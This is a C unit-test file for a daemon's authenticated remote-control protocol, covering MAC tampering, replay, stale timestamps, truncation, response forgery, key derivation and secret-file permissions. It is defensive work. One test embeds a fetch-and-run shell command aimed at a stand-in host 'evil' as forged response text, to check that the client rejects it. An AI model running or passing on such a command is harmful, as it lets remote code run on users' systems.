// SPDX-License-Identifier: GPL-2.0
/*
 * Remote control envelope (lib/remote_auth.c): what the daemon accepts and
 * refuses, and what the client believes. Round trip; wrong key and every
 * tampered field; replayed nonce; stale and future timestamps at the window's
 * edges; truncation at every length; oversized; wrong versions; requests for
 * other hosts; forged, replayed and unauthenticated responses; key
 * derivation; secret files.
 */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>

#include <stdlib.h>
#include <sys/stat.h>
#include <time.h>

#include "../../lib/remote_auth.c"

#define NOW    1790000000000ull /* a fixed wall clock, ms */
#define WINDOW 30

static struct remote_key key, other_key;
static const uint8_t cluster_ip[16] = {0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0xff, 0xff, 10, 0, 0, 100};
static struct remote_replay replay;

static int group_setup(void **state)
{
	(void)state;
	assert_int_equal(remote_derive_key("correct horse", 13, cluster_ip, &key), 0);
	assert_int_equal(remote_derive_key("wrong password", 14, cluster_ip, &other_key), 0);
	return 0;
}

static int setup(void **state)
{
	(void)state;
	remote_replay_init(&replay);
	return 0;
}

static struct remote_verify_ctx vctx(uint8_t self, uint64_t now)
{
	struct remote_verify_ctx vc = {.key = &key,
				       .self = self,
				       .now_ms = now,
				       .mono_ms = 5000,
				       .window_s = WINDOW,
				       .replay = &replay};
	return vc;
}

/* A valid request datagram for @cmd to @host, stamped @ts. */
static int make_req(uint8_t *buf, uint16_t cmd, uint8_t host, uint64_t ts, uint8_t *nonce)
{
	struct wlbs_ctl_request req = {.id = 7, .command = cmd, .host = host};
	uint8_t scratch[WLBS_REMOTE_NONCE_LEN];
	int n =
	    remote_wrap_request(&key, &req, ts, nonce ? nonce : scratch, buf, WLBS_REMOTE_REQ_LEN);

	assert_int_equal(n, (int)WLBS_REMOTE_REQ_LEN);
	return n;
}

static enum remote_verdict verify(uint8_t self, uint64_t now, const void *buf, size_t len)
{
	struct remote_verify_ctx vc = vctx(self, now);
	struct wlbs_ctl_request req;
	struct wlbs_remote_hdr h;
	int derr;

	return remote_verify_request(&vc, buf, len, &h, &req, &derr);
}

/* Recomputes the MAC, as a sender with the key would after changing a field. */
static void reseal(uint8_t *buf, size_t len)
{
	crypto_auth(buf + len - MAC_LEN, buf, len - MAC_LEN, key.k);
}

static void test_round_trip(void **state)
{
	uint8_t buf[WLBS_REMOTE_RESP_MAX], nonce[WLBS_REMOTE_NONCE_LEN];
	struct wlbs_ctl_request req = {.id = 0xabcdef01,
				       .command = WLBS_CMD_DRAIN,
				       .target = WLBS_CTL_TGT_PORT,
				       .port = 80,
				       .host = 3};
	struct remote_verify_ctx vc = vctx(3, NOW);
	struct wlbs_ctl_response resp, back;
	struct wlbs_ctl_request got;
	struct wlbs_remote_hdr h;
	uint64_t ts = 0;
	int n, derr;

	(void)state;
	n = remote_wrap_request(&key, &req, NOW, nonce, buf, sizeof(buf));
	assert_int_equal(n, WLBS_REMOTE_REQ_LEN);
	assert_int_equal(remote_verify_request(&vc, buf, (size_t)n, &h, &got, &derr), REMOTE_OK);
	assert_int_equal(got.id, req.id);
	assert_int_equal(got.command, WLBS_CMD_DRAIN);
	assert_int_equal(got.port, 80);
	assert_int_equal(got.host, 3);
	assert_memory_equal(h.nonce, nonce, sizeof(nonce));
	assert_int_equal(h.timestamp_ms, NOW);

	ctl_response_init(&resp, &got);
	resp.status = WLBS_OK;
	resp.host = 3;
	resp.members = 0x7;
	ctl_resp_text(&resp, "Connection draining started.");
	n = remote_wrap_response(&key, 3, h.nonce, NOW + 5, &resp, buf, sizeof(buf));
	assert_true(n > 0);
	assert_int_equal(remote_unwrap_response(&key, buf, (size_t)n, nonce, &back, &ts), 0);
	assert_int_equal(back.id, req.id);
	assert_int_equal(back.status, WLBS_OK);
	assert_int_equal(back.host, 3);
	assert_int_equal(back.members, 0x7);
	assert_string_equal(back.text, "Connection draining started.");
	assert_int_equal(ts, NOW + 5);
	/* Two requests never share a nonce. */
	{
		uint8_t n2[WLBS_REMOTE_NONCE_LEN];

		make_req(buf, WLBS_CMD_QUERY, 0, NOW, n2);
		assert_memory_not_equal(n2, nonce, sizeof(n2));
	}
}

static void test_bad_mac_refused(void **state)
{
	uint8_t buf[WLBS_REMOTE_REQ_LEN], copy[WLBS_REMOTE_REQ_LEN];
	struct wlbs_ctl_request req = {.id = 1, .command = WLBS_CMD_STOP};
	uint8_t nonce[WLBS_REMOTE_NONCE_LEN];
	int n;

	(void)state;
	/* Another password: well-formed, so the daemon answers "bad password". */
	n = remote_wrap_request(&other_key, &req, NOW, nonce, buf, sizeof(buf));
	assert_int_equal(verify(1, NOW, buf, (size_t)n), REMOTE_BAD_MAC);
	/* Any single bit changed anywhere (header, request, MAC) breaks the MAC. */
	make_req(buf, WLBS_CMD_STOP, 0, NOW, NULL);
	for (size_t i = 0; i < sizeof(buf); i++) {
		/* Timestamp, nonce and MAC only matter to the MAC; other fields may be refused
		 * earlier (magic, version, flags, host, inner structure). */
		bool mac_only = (i >= 8 && i < 32) || i >= sizeof(buf) - MAC_LEN;
		enum remote_verdict v;

		memcpy(copy, buf, sizeof(buf));
		copy[i] ^= 0x01;
		v = verify(1, NOW, copy, sizeof(copy));
		assert_int_not_equal(v, REMOTE_OK);
		if (mac_only)
			assert_int_equal(v, REMOTE_BAD_MAC);
	}
	/* Nothing of that consumed the nonce: the original still goes through. */
	assert_int_equal(verify(1, NOW, buf, sizeof(buf)), REMOTE_OK);
	/* A request with a broken inner message and a wrong MAC is garbage: no answer. */
	memcpy(copy, buf, sizeof(buf));
	copy[32 + 12] = 0xff; /* command 0xff.. */
	assert_int_equal(verify(1, NOW, copy, sizeof(copy)), REMOTE_GARBAGE);
}

static void test_replay_refused(void **state)
{
	uint8_t buf[WLBS_REMOTE_REQ_LEN];
	struct remote_verify_ctx vc = vctx(1, NOW);
	struct wlbs_ctl_request req;
	struct wlbs_remote_hdr h;
	int derr;

	(void)state;
	make_req(buf, WLBS_CMD_START, 0, NOW, NULL);
	assert_int_equal(remote_verify_request(&vc, buf, sizeof(buf), &h, &req, &derr), REMOTE_OK);
	assert_int_equal(remote_verify_request(&vc, buf, sizeof(buf), &h, &req, &derr),
			 REMOTE_REPLAY);
	/* Still refused at the end of the window (the nonce outlives its timestamp). */
	vc.now_ms = NOW + WINDOW * 1000;
	vc.mono_ms += WINDOW * 1000;
	assert_int_equal(remote_verify_request(&vc, buf, sizeof(buf), &h, &req, &derr),
			 REMOTE_REPLAY);
	/* Later, the timestamp alone refuses it (and the cache has forgotten it). */
	vc.now_ms = NOW + 3 * WINDOW * 1000;
	vc.mono_ms += 3 * WINDOW * 1000;
	assert_int_equal(remote_verify_request(&vc, buf, sizeof(buf), &h, &req, &derr),
			 REMOTE_STALE);
	/* The cache forgets expired nonces: only the new request's is left. */
	make_req(buf, WLBS_CMD_START, 0, vc.now_ms, NULL);
	assert_int_equal(remote_verify_request(&vc, buf, sizeof(buf), &h, &req, &derr), REMOTE_OK);
	assert_int_equal(replay.count, 1);
}

static void test_replay_cache_bounded(void **state)
{
	uint8_t nonce[WLBS_REMOTE_NONCE_LEN] = {0};

	(void)state;
	for (unsigned int i = 0; i < REMOTE_REPLAY_MAX; i++) {
		memcpy(nonce, &i, sizeof(i));
		assert_int_equal(remote_replay_check(&replay, nonce, 100, 1000), 0);
	}
	/* Full of live nonces: refuse (fail closed) rather than forget one. */
	nonce[15] = 1;
	assert_int_equal(remote_replay_check(&replay, nonce, 200, 1000), -ENOSPC);
	nonce[15] = 0;
	memset(nonce, 0, 4);
	assert_int_equal(remote_replay_check(&replay, nonce, 200, 1000), -EEXIST);
	/* Once they expire there is room again, and the old ones are gone. */
	assert_int_equal(remote_replay_check(&replay, nonce, 1100, 1000), 0);
	assert_int_equal(replay.count, 1);

	/* The daemon's verdict when full: busy, nothing executed. */
	{
		uint8_t buf[WLBS_REMOTE_REQ_LEN];

		remote_replay_init(&replay);
		for (unsigned int i = 0; i < REMOTE_REPLAY_MAX; i++) {
			memcpy(nonce, &i, sizeof(i));
			nonce[14] = 9;
			assert_int_equal(remote_replay_check(&replay, nonce, 1100, 999999), 0);
		}
		make_req(buf, WLBS_CMD_QUERY, 0, NOW, NULL);
		assert_int_equal(verify(1, NOW, buf, sizeof(buf)), REMOTE_BUSY);
	}
}

static void test_stale_and_future(void **state)
{
	uint8_t buf[WLBS_REMOTE_REQ_LEN];
	uint64_t w = WINDOW * 1000;

	(void)state;
	make_req(buf, WLBS_CMD_QUERY, 0, NOW - w - 1, NULL);
	assert_int_equal(verify(1, NOW, buf, sizeof(buf)), REMOTE_STALE);
	make_req(buf, WLBS_CMD_QUERY, 0, NOW + w + 1, NULL);
	assert_int_equal(verify(1, NOW, buf, sizeof(buf)), REMOTE_FUTURE);
	make_req(buf, WLBS_CMD_QUERY, 0, 0, NULL);
	assert_int_equal(verify(1, NOW, buf, sizeof(buf)), REMOTE_STALE);
	make_req(buf, WLBS_CMD_QUERY, 0, UINT64_MAX - 5, NULL);
	assert_int_equal(verify(1, NOW, buf, sizeof(buf)), REMOTE_FUTURE);
	/* The window's edges are inside. */
	make_req(buf, WLBS_CMD_QUERY, 0, NOW - w, NULL);
	assert_int_equal(verify(1, NOW, buf, sizeof(buf)), REMOTE_OK);
	make_req(buf, WLBS_CMD_QUERY, 0, NOW + w, NULL);
	assert_int_equal(verify(1, NOW, buf, sizeof(buf)), REMOTE_OK);
}

static void test_truncated_at_every_length(void **state)
{
	uint8_t buf[WLBS_REMOTE_REQ_LEN];

	(void)state;
	make_req(buf, WLBS_CMD_STOP, 0, NOW, NULL);
	for (size_t len = 0; len < sizeof(buf); len++)
		assert_int_equal(verify(1, NOW, buf, len), REMOTE_TRUNCATED);
	/* None of them consumed the nonce. */
	assert_int_equal(verify(1, NOW, buf, sizeof(buf)), REMOTE_OK);
}

static void test_oversized(void **state)
{
	uint8_t buf[2048];
	size_t sizes[] = {WLBS_REMOTE_REQ_LEN + 1, WLBS_REMOTE_REQ_LEN + 32, 512, sizeof(buf)};

	(void)state;
	for (size_t i = 0; i < sizeof(sizes) / sizeof(sizes[0]); i++) {
		memset(buf, 0x5a, sizeof(buf));
		make_req(buf, WLBS_CMD_STOP, 0, NOW, NULL);
		assert_int_equal(verify(1, NOW, buf, sizes[i]), REMOTE_OVERSIZED);
		/* Even with a MAC that covers the extra bytes. */
		reseal(buf, sizes[i]);
		assert_int_equal(verify(1, NOW, buf, sizes[i]), REMOTE_OVERSIZED);
	}
}

static void test_wrong_versions(void **state)
{
	uint8_t buf[WLBS_REMOTE_REQ_LEN];
	struct remote_verify_ctx vc = vctx(1, NOW);
	struct wlbs_ctl_request req;
	struct wlbs_remote_hdr h;
	int derr;

	(void)state;
	/* Envelope version: another layout, refused before anything is trusted. */
	make_req(buf, WLBS_CMD_QUERY, 0, NOW, NULL);
	buf[4] = WLBS_REMOTE_VERSION + 1;
	assert_int_equal(verify(1, NOW, buf, sizeof(buf)), REMOTE_VERSION);
	reseal(buf, sizeof(buf));
	assert_int_equal(verify(1, NOW, buf, sizeof(buf)), REMOTE_VERSION);
	buf[4] = 0;
	assert_int_equal(verify(1, NOW, buf, sizeof(buf)), REMOTE_VERSION);
	/* Control protocol version inside a good envelope: answered as a bad request. */
	make_req(buf, WLBS_CMD_QUERY, 0, NOW, NULL);
	buf[32 + 4] = WLBS_CTL_VERSION + 1;
	reseal(buf, sizeof(buf));
	assert_int_equal(remote_verify_request(&vc, buf, sizeof(buf), &h, &req, &derr),
			 REMOTE_BAD_REQUEST);
	assert_int_equal(derr, -EPROTONOSUPPORT);
}

static void test_addressing(void **state)
{
	uint8_t buf[WLBS_REMOTE_REQ_LEN];
	struct remote_verify_ctx vc = vctx(2, NOW);
	struct wlbs_ctl_request req;
	struct wlbs_remote_hdr h;
	int derr;

	(void)state;
	make_req(buf, WLBS_CMD_STOP, 3, NOW, NULL);
	assert_int_equal(verify(2, NOW, buf, sizeof(buf)), REMOTE_OTHER_HOST);
	assert_int_equal(verify(3, NOW, buf, sizeof(buf)), REMOTE_OK);
	make_req(buf, WLBS_CMD_STOP, 0, NOW, NULL);
	assert_int_equal(verify(2, NOW, buf, sizeof(buf)), REMOTE_OK);
	/* Outer host 2 but inner host 0: one meaning per message. */
	make_req(buf, WLBS_CMD_STOP, 0, NOW, NULL);
	buf[6] = 2;
	reseal(buf, sizeof(buf));
	assert_int_equal(remote_verify_request(&vc, buf, sizeof(buf), &h, &req, &derr),
			 REMOTE_BAD_REQUEST);
	/* Host 65 does not exist. */
	buf[6] = WLBS_MAX_HOSTS + 1;
	reseal(buf, sizeof(buf));
	assert_int_equal(verify(2, NOW, buf, sizeof(buf)), REMOTE_GARBAGE);
}

static void test_garbage(void **state)
{
	uint8_t buf[WLBS_REMOTE_REQ_LEN];
	unsigned int seed = 12345;

	(void)state;
	/* A response sent back at the daemon is no request. */
	make_req(buf, WLBS_CMD_QUERY, 0, NOW, NULL);
	buf[5] = WLBS_REMOTE_F_RESPONSE;
	reseal(buf, sizeof(buf));
	assert_int_equal(verify(1, NOW, buf, sizeof(buf)), REMOTE_GARBAGE);
	/* Unknown flag, non-zero padding. */
	make_req(buf, WLBS_CMD_QUERY, 0, NOW, NULL);
	buf[5] = 0x80;
	assert_int_equal(verify(1, NOW, buf, sizeof(buf)), REMOTE_GARBAGE);
	make_req(buf, WLBS_CMD_QUERY, 0, NOW, NULL);
	buf[7] = 1;
	assert_int_equal(verify(1, NOW, buf, sizeof(buf)), REMOTE_GARBAGE);
	/* A local control message without envelope. */
	{
		struct wlbs_ctl_request req = {.id = 1, .command = WLBS_CMD_STOP};
		uint8_t raw[WLBS_REMOTE_REQ_LEN] = {0};

		assert_int_equal(ctl_encode_request(&req, raw, sizeof(raw)), 40);
		assert_int_equal(verify(1, NOW, raw, 40), REMOTE_GARBAGE);
		assert_int_equal(verify(1, NOW, raw, sizeof(raw)), REMOTE_GARBAGE);
	}
	/* Random bytes of every size: never accepted. */
	for (int i = 0; i < 20000; i++) {
		size_t len = (size_t)rand_r(&seed) % (sizeof(buf) + 1);

		for (size_t k = 0; k < len; k++)
			buf[k] = (uint8_t)rand_r(&seed);
		if (i & 1 && len >= 8) { /* half of them with our magic and version */
			buf[0] = 0x57, buf[1] = 0x4c, buf[2] = 0x42, buf[3] = 0x52, buf[4] = 1;
		}
		assert_int_not_equal(verify(1, NOW, buf, len), REMOTE_OK);
	}
	assert_int_equal(replay.count, 0);
}

static void test_response_forgery_rejected(void **state)
{
	uint8_t buf[WLBS_REMOTE_RESP_MAX], copy[WLBS_REMOTE_RESP_MAX];
	uint8_t nonce[WLBS_REMOTE_NONCE_LEN], other[WLBS_REMOTE_NONCE_LEN];
	struct wlbs_ctl_request req = {.id = 5, .command = WLBS_CMD_QUERY};
	struct wlbs_ctl_response resp, back;
	int n, m;

	(void)state;
	randombytes_buf(nonce, sizeof(nonce));
	randombytes_buf(other, sizeof(other));
	ctl_response_init(&resp, &req);
	resp.status = WLBS_CONVERGED;
	resp.host = 2;
	ctl_resp_text(&resp, "Host 2 converged");

	/* Signed with another key (a stranger's "all is well"). */
	n = remote_wrap_response(&other_key, 2, nonce, NOW, &resp, buf, sizeof(buf));
	assert_int_equal(remote_unwrap_response(&key, buf, (size_t)n, nonce, &back, NULL), -EACCES);
	/* Any bit flipped in a genuine answer. */
	n = remote_wrap_response(&key, 2, nonce, NOW, &resp, buf, sizeof(buf));
	for (int i = 0; i < n; i++) {
		memcpy(copy, buf, (size_t)n);
		copy[i] ^= 0x20;
		assert_true(remote_unwrap_response(&key, copy, (size_t)n, nonce, &back, NULL) < 0);
	}
	/* A genuine answer to another request (an old one replayed). */
	n = remote_wrap_response(&key, 2, other, NOW, &resp, buf, sizeof(buf));
	assert_int_equal(remote_unwrap_response(&key, buf, (size_t)n, nonce, &back, NULL), -ESRCH);
	/* A genuine answer claiming another host in its envelope. */
	n = remote_wrap_response(&key, 2, nonce, NOW, &resp, buf, sizeof(buf));
	buf[6] = 3;
	crypto_auth(buf + n - MAC_LEN, buf, (size_t)n - MAC_LEN, key.k);
	assert_int_equal(remote_unwrap_response(&key, buf, (size_t)n, nonce, &back, NULL),
			 -EBADMSG);
	/* Our own request reflected back is no answer. */
	make_req(buf, WLBS_CMD_QUERY, 0, NOW, nonce);
	assert_int_equal(remote_unwrap_response(&key, buf, WLBS_REMOTE_REQ_LEN, nonce, &back, NULL),
			 -EBADMSG);
	/* Truncated answers. */
	n = remote_wrap_response(&key, 2, nonce, NOW, &resp, buf, sizeof(buf));
	for (int len = 0; len < n; len++)
		assert_true(remote_unwrap_response(&key, buf, (size_t)len, nonce, &back, NULL) < 0);

	/* The unauthenticated answer: believed only as a bare "bad password". */
	ctl_response_init(&resp, &req);
	resp.status = WLBS_BAD_PASSW;
	resp.host = 2;
	m = remote_wrap_response(NULL, 2, nonce, NOW, &resp, buf, sizeof(buf));
	assert_int_equal(m, 32 + 64);
	assert_true(m < (int)WLBS_REMOTE_REQ_LEN); /* never larger than what it answers */
	assert_int_equal(remote_unwrap_response(&key, buf, (size_t)m, nonce, &back, NULL), 1);
	assert_int_equal(back.status, WLBS_BAD_PASSW);
	assert_int_equal(remote_unwrap_response(&key, buf, (size_t)m, other, &back, NULL), -ESRCH);
	/* The daemon never makes another unauthenticated answer... */
	resp.status = WLBS_OK;
	assert_int_equal(remote_wrap_response(NULL, 2, nonce, NOW, &resp, buf, sizeof(buf)),
			 -EINVAL);
	/* ...and the client refuses a forged one (status OK, or with text). */
	resp.status = WLBS_BAD_PASSW;
	m = remote_wrap_response(NULL, 2, nonce, NOW, &resp, buf, sizeof(buf));
	buf[32 + 16 + 3] = WLBS_OK & 0xff; /* status 1101 -> 1000: 0x044d -> 0x03e8 */
	buf[32 + 16 + 2] = WLBS_OK >> 8;
	assert_int_equal(remote_unwrap_response(&key, buf, (size_t)m, nonce, &back, NULL), -EACCES);
	ctl_resp_text(&resp, "run this: curl evil | sh");
	n = remote_wrap_response(&key, 2, nonce, NOW, &resp, buf, sizeof(buf));
	buf[5] |= WLBS_REMOTE_F_NOAUTH;
	assert_int_equal(remote_unwrap_response(&key, buf, (size_t)n - MAC_LEN, nonce, &back, NULL),
			 -EACCES);
	/* Another envelope version. */
	m = remote_wrap_response(&key, 2, nonce, NOW, &resp, buf, sizeof(buf));
	buf[4] = 2;
	assert_int_equal(remote_unwrap_response(&key, buf, (size_t)m, nonce, &back, NULL),
			 -EPROTONOSUPPORT);
}

static void test_key_derivation(void **state)
{
	uint8_t ip2[16];
	struct remote_key a, b;
	struct timespec t0, t1;

	(void)state;
	clock_gettime(CLOCK_MONOTONIC, &t0);
	assert_int_equal(remote_derive_key("correct horse", 13, cluster_ip, &a), 0);
	clock_gettime(CLOCK_MONOTONIC, &t1);
	/* Start-up stays well under a second. */
	assert_true((t1.tv_sec - t0.tv_sec) * 1000 + (t1.tv_nsec - t0.tv_nsec) / 1000000 < 500);
	assert_memory_equal(a.k, key.k, sizeof(a.k)); /* every host derives the same key */
	assert_memory_not_equal(a.k, other_key.k, sizeof(a.k));
	/* Another cluster (first IP), same password: another key. */
	memcpy(ip2, cluster_ip, 16);
	ip2[15]++;
	assert_int_equal(remote_derive_key("correct horse", 13, ip2, &b), 0);
	assert_memory_not_equal(a.k, b.k, sizeof(a.k));
	/* Too short or too long. */
	assert_int_equal(remote_derive_key("short", 5, cluster_ip, &b), -EINVAL);
	assert_int_equal(remote_derive_key("", 0, cluster_ip, &b), -EINVAL);
	{
		char *big = calloc(1, WLBS_REMOTE_SECRET_MAX + 1);

		memset(big, 'x', WLBS_REMOTE_SECRET_MAX + 1);
		assert_int_equal(remote_derive_key(big, WLBS_REMOTE_SECRET_MAX + 1, cluster_ip, &b),
				 -EINVAL);
		assert_int_equal(remote_derive_key(big, WLBS_REMOTE_SECRET_MAX, cluster_ip, &b), 0);
		free(big);
	}
	remote_key_wipe(&b);
	assert_memory_equal(b.k, (uint8_t[32]){0}, 32);
}

static void write_file(const char *path, const char *data, size_t len, mode_t mode)
{
	FILE *f = fopen(path, "w");

	assert_non_null(f);
	assert_int_equal(fwrite(data, 1, len, f), len);
	fclose(f);
	assert_int_equal(chmod(path, mode), 0);
}

static void test_secret_files(void **state)
{
	char dir[] = "/tmp/wlbs-secret-XXXXXX", path[64], err[256];
	uint8_t buf[WLBS_REMOTE_SECRET_MAX + 3];
	struct remote_key k;
	size_t len;
	char *big;

	(void)state;
	assert_non_null(mkdtemp(dir));
	snprintf(path, sizeof(path), "%s/secret", dir);

	/* The trailing newline an editor adds is not part of the secret. */
	write_file(path, "correct horse\n", 14, 0600);
	assert_int_equal(remote_key_from_file(path, true, cluster_ip, &k, err, sizeof(err)), 0);
	assert_memory_equal(k.k, key.k, sizeof(k.k));
	write_file(path, "correct horse\r\n", 15, 0600);
	assert_int_equal(remote_read_secret(path, true, buf, sizeof(buf), &len, err, sizeof(err)),
			 0);
	assert_int_equal(len, 13);
	/* Only one: "x\n\n" keeps the first newline. */
	write_file(path, "correct horse\n\n", 15, 0600);
	assert_int_equal(remote_read_secret(path, true, buf, sizeof(buf), &len, err, sizeof(err)),
			 0);
	assert_int_equal(len, 14);

	/* Readable by everyone: refused by the daemon, and the message has no secret. */
	write_file(path, "correct horse\n", 14, 0644);
	assert_int_equal(remote_key_from_file(path, true, cluster_ip, &k, err, sizeof(err)),
			 -EPERM);
	assert_non_null(strstr(err, "accessible by others"));
	assert_null(strstr(err, "horse"));
	assert_int_equal(remote_key_from_file(path, false, cluster_ip, &k, err, sizeof(err)), 0);

	/* Empty, too short, too long, missing, a directory. */
	write_file(path, "\n", 1, 0600);
	assert_int_equal(remote_read_secret(path, true, buf, sizeof(buf), &len, err, sizeof(err)),
			 -EINVAL);
	write_file(path, "short", 5, 0600);
	assert_int_equal(remote_read_secret(path, true, buf, sizeof(buf), &len, err, sizeof(err)),
			 -EINVAL);
	big = malloc(WLBS_REMOTE_SECRET_MAX + 10);
	memset(big, 'y', WLBS_REMOTE_SECRET_MAX + 10);
	write_file(path, big, WLBS_REMOTE_SECRET_MAX + 1, 0600);
	assert_int_equal(remote_read_secret(path, true, buf, sizeof(buf), &len, err, sizeof(err)),
			 -EFBIG);
	write_file(path, big, WLBS_REMOTE_SECRET_MAX + 10, 0600);
	assert_int_equal(remote_read_secret(path, true, buf, sizeof(buf), &len, err, sizeof(err)),
			 -EFBIG);
	big[WLBS_REMOTE_SECRET_MAX] = '\n';
	write_file(path, big, WLBS_REMOTE_SECRET_MAX + 1, 0600);
	assert_int_equal(remote_read_secret(path, true, buf, sizeof(buf), &len, err, sizeof(err)),
			 0);
	assert_int_equal(len, WLBS_REMOTE_SECRET_MAX);
	free(big);
	unlink(path);
	assert_int_equal(remote_key_from_file(path, true, cluster_ip, &k, err, sizeof(err)),
			 -ENOENT);
	assert_non_null(strstr(err, path));
	assert_int_equal(remote_read_secret(dir, true, buf, sizeof(buf), &len, err, sizeof(err)),
			 -EINVAL);
	rmdir(dir);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test_setup(test_round_trip, setup),
	    cmocka_unit_test_setup(test_bad_mac_refused, setup),
	    cmocka_unit_test_setup(test_replay_refused, setup),
	    cmocka_unit_test_setup(test_replay_cache_bounded, setup),
	    cmocka_unit_test_setup(test_stale_and_future, setup),
	    cmocka_unit_test_setup(test_truncated_at_every_length, setup),
	    cmocka_unit_test_setup(test_oversized, setup),
	    cmocka_unit_test_setup(test_wrong_versions, setup),
	    cmocka_unit_test_setup(test_addressing, setup),
	    cmocka_unit_test_setup(test_garbage, setup),
	    cmocka_unit_test_setup(test_response_forgery_rejected, setup),
	    cmocka_unit_test_setup(test_key_derivation, setup),
	    cmocka_unit_test_setup(test_secret_files, setup),
	};

	return cmocka_run_group_tests(tests, group_setup, NULL);
}
